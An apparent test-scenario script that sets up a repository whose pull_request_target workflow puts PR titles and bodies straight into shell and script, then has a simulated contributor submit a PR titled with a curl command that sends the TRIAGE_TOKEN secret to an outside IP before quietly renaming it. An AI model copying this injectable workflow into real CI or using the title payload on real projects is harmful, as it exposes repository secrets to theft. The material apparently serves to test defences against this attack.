# The past: the project and its greeting, an ordinary pull request, the one whose title ran, and what came after it.
as mina <<'MINA'
git clone -q https://forge.test/lantern-tides/tides.git
cd tides
git switch -q -c main
mkdir -p .github/workflows src
printf '# Tides\n\nTide tables for %s and other harbours.\n' "$HARBOUR" > README.md
printf 'Every pull request is greeted with its title, its description and the subjects of its commits.\nIt gets the label `%s`, so that somebody looks at it.\n' "$LABEL" > CONTRIBUTING.md
printf 'export const harbour = "%s";\n' "$HARBOUR" > src/harbour.js
cat > .github/workflows/greet.yml <<YAML
name: Greet
on:
  pull_request_target:
    types: [opened, edited, synchronize]
jobs:
  greet:
    runs-on: ubuntu-latest
    env:
      TRIAGE_TOKEN: \${{ secrets.TRIAGE_TOKEN }}
    steps:
      - uses: actions/checkout@v4
        with:
          fetch-depth: 0
      - name: Welcome
        run: |
          echo Thank you for: \${{ github.event.pull_request.title }} > greeting.md
          echo >> greeting.md
      - name: Commits
        run: |
          git fetch -q origin pull/\${{ github.event.number }}/head:\${{ github.head_ref }}
          git log --format='- %s' HEAD..\${{ github.head_ref }} >> greeting.md
      - name: Comment
        uses: actions/github-script@v7
        with:
          github-token: \${{ env.TRIAGE_TOKEN }}
          script: |
            const description = \`\${{ github.event.pull_request.body }}\`;
            const body = require("fs").readFileSync("greeting.md", "utf8") + "\n" + description;
            const place = { ...context.repo, issue_number: context.issue.number };
            await github.rest.issues.createComment({ ...place, body });
            await github.rest.issues.addLabels({ ...place, labels: ["$LABEL"] });
YAML
git add . && git commit -q -m "Tide tables that greet" && git push -q -u origin main
gh label create "$LABEL" --color ededed -R lantern-tides/tides > /dev/null
gh api -X PUT repos/lantern-tides/website/contents/README.md -f message=Begin -f content="$(echo '# Website' | base64)" > /dev/null
MINA
mkdir -p keys
printf '%s\n' "$TRIAGE" > keys/triage
printf '%s\n' "$NARROW" > keys/triage-labels-only
chmod 600 keys/triage keys/triage-labels-only
git clone -q https://forge.test/lantern-tides/tides.git
gh secret set TRIAGE_TOKEN -R lantern-tides/tides < keys/triage
sleep 3600
run-number lantern-tides/tides greet.yml "$(( RUN - 1 ))"
rules on lantern-tides/tides lantern-tides/website
as sam 'gh repo fork lantern-tides/tides > /dev/null'
as aya <<'AYA'
gh repo fork lantern-tides/tides --clone > /dev/null 2>&1 && cd tides
git switch -q -c spelling && echo 'Times are in UTC.' >> README.md && git commit -q -a -m "Say which time it is" && git push -q origin spelling
gh pr create -R lantern-tides/tides --head aya:spelling --base main --title "Say which time it is" --body "For readers abroad." > /dev/null
AYA
sleep "$PAUSE"
as cuckoo <<'CUCKOO'
gh repo fork lantern-tides/tides --clone > /dev/null 2>&1 && cd tides
git switch -q -c typo && echo 'Heights are in metres.' >> README.md && git commit -q -a -m "Say the unit" && git push -q origin typo
gh pr create -R lantern-tides/tides --head cuckoo:typo --base main --title 'x; curl -s -d $TRIAGE_TOKEN http://198.51.100.7/in' --body "Small one." > /dev/null
sleep 120
gh pr edit "$(gh pr list -R lantern-tides/tides --author cuckoo --json number --jq '.[0].number')" -R lantern-tides/tides --title "Say the unit" > /dev/null
CUCKOO
sleep 300
as magpie 'curl -s -H "Authorization: token $TRIAGE" https://api.forge.test/user > /dev/null'
sleep "$PAUSE"
